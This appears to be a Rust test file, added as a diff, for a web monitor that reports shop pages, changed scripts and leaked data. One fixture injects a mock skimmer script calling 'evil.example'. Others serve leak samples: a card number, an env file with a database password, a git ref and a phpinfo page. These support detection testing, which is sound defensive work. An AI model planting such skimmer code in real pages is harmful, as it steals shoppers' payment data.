@@ -1,0 +1,135 @@
+//! What is told of pages, scripts and leaks, and how often.
+
+use gabion_markup::ContentHash;
+use gabion_markup::sighting::Seen;
+use gabion_test::{Shop, body};
+use http::{Request, Response};
+use hyper::body::Incoming;
+use std::sync::atomic::{AtomicUsize, Ordering};
+
+use super::{PAGE, decided, front, held, packed, page, shop};
+use crate::front::{Setup, get, soon};
+
+#[tokio::test]
+async fn a_page_is_told_once_and_another_content_of_it_at_once() {
+    let count = AtomicUsize::new(0);
+    let shop =
+        Shop::start(move |_: Request<Incoming>| {
+            let n = count.fetch_add(1, Ordering::SeqCst);
+            // A token that is different in every answer, and from the tenth on a skimmer.
+            let skimmer = if n >= 10 { "<script>steal('https://evil.example')</script>" } else { "" };
+            let page = format!("<script nonce=n{n}>let csrf = 'a1b2{n}';</script>{skimmer}");
+            async move {
+                Ok(Response::builder().header("content-type", "text/html").body(body::whole(page)).unwrap())
+            }
+        })
+        .await;
+    let front = held(&shop, decided());
+    for _ in 0..10 {
+        front.get("/pay/order/1234").await;
+    }
+    assert_eq!(front.sightings.all().len(), 1);
+    front.get("/pay/order/77").await;
+    let told = front.sightings.all();
+    let pages: Vec<_> = told.iter().filter_map(page).collect();
+    assert_eq!(pages.len(), 2, "{told:?}");
+    assert_eq!(pages[1].page.scripts.len(), 2);
+    assert_eq!(pages[1].address.to_string(), "https://shop.example/pay/order/*");
+    front.edge.stop_and_drain().await;
+    let told: Vec<_> = front.sightings.all().iter().filter_map(page).collect();
+    assert_eq!(told.iter().map(|page| page.servings).collect::<Vec<_>>(), [1, 1, 9]);
+}
+
+#[tokio::test]
+async fn pages_of_errors_are_not_told() {
+    let shop = Shop::start(|_: Request<Incoming>| async {
+        let response = Response::builder().status(404).header("content-type", "text/html");
+        Ok(response.body(body::whole(PAGE)).unwrap())
+    })
+    .await;
+    let front = front(&shop);
+    assert_eq!(front.get("/made-up").await.text(), PAGE);
+    assert!(front.sightings.all().is_empty());
+    assert_eq!(front.edge.metrics().pages_seen.load(Ordering::Relaxed), 1);
+}
+
+#[tokio::test]
+async fn scripts_of_the_shop_are_told_when_they_change() {
+    let count = AtomicUsize::new(0);
+    let shop = Shop::start(move |_: Request<Incoming>| {
+        let text = if count.fetch_add(1, Ordering::SeqCst) < 3 { "let a = 1;" } else { "let a = 2;" };
+        async move {
+            let response = Response::builder().header("content-type", "text/javascript; charset=utf-8");
+            let response = response.header("content-encoding", "gzip");
+            Ok(response.body(body::whole(packed(text.as_bytes()))).unwrap())
+        }
+    })
+    .await;
+    let front = front(&shop);
+    for _ in 0..5 {
+        front.get("/static/pay.js?v=1").await;
+    }
+    let told = front.sightings.all();
+    let scripts: Vec<_> = told
+        .iter()
+        .map(|seen| match seen {
+            Seen::Script(script) => (script.address.to_string(), script.hash, script.beginning.as_str()),
+            other => panic!("{other:?}"),
+        })
+        .collect();
+    let at = "https://shop.example/static/pay.js";
+    let hash = |text: &str| ContentHash::of(text.as_bytes());
+    assert_eq!(
+        scripts,
+        [
+            (at.to_owned(), hash("let a = 1;"), "let a = 1;"),
+            (at.to_owned(), hash("let a = 2;"), "let a = 2;")
+        ]
+    );
+}
+
+#[tokio::test]
+async fn what_an_answer_should_not_say_is_told_once_and_passes() {
+    for (kind, text, code) in [
+        ("text/html", "<title>phpinfo()</title>", "phpinfo"),
+        ("application/json", "{\"pan\":\"378282246310005\"}", "card-number"),
+        ("application/octet-stream", "ref: refs/heads/main\n", "git-folder"),
+        ("text/plain", "APP_ENV=prod\nDB_PASSWORD=hunter2\n", "env-file"),
+    ] {
+        let shop = Shop::start(move |_: Request<Incoming>| async move {
+            Ok(Response::builder().header("content-type", kind).body(body::whole(text)).unwrap())
+        })
+        .await;
+        let front = front(&shop);
+        for _ in 0..3 {
+            assert_eq!(front.get("/a").await.text(), text);
+        }
+        let told = front.sightings.all();
+        let codes: Vec<_> = told
+            .iter()
+            .filter_map(|seen| match seen {
+                Seen::Leak { leaks, .. } => Some(leaks.leaks[0].code),
+                _ => None,
+            })
+            .collect();
+        assert_eq!(codes, [code]);
+    }
+}
+
+#[tokio::test]
+async fn pages_of_no_watched_class_are_looked_at_in_some_visits_and_always_the_same() {
+    let shop = shop(&[], PAGE).await;
+    let front = Setup::of(&[&shop]).pages("sample_percent = 50").start();
+    let mut wire = front.tls().await;
+    let seen = || front.edge.metrics().pages_seen.load(Ordering::Relaxed);
+    let mut watched = 0;
+    for browser in 0..40 {
+        let before = seen();
+        for _ in 0..3 {
+            soon(wire.ask(get("/about", &format!("User-Agent: browser {browser}\r\n")))).await;
+        }
+        assert!([0, 3].contains(&(seen() - before)), "a visit is watched as a whole");
+        watched += usize::from(seen() > before);
+    }
+    assert!((5..=35).contains(&watched), "{watched} of 40");
+}
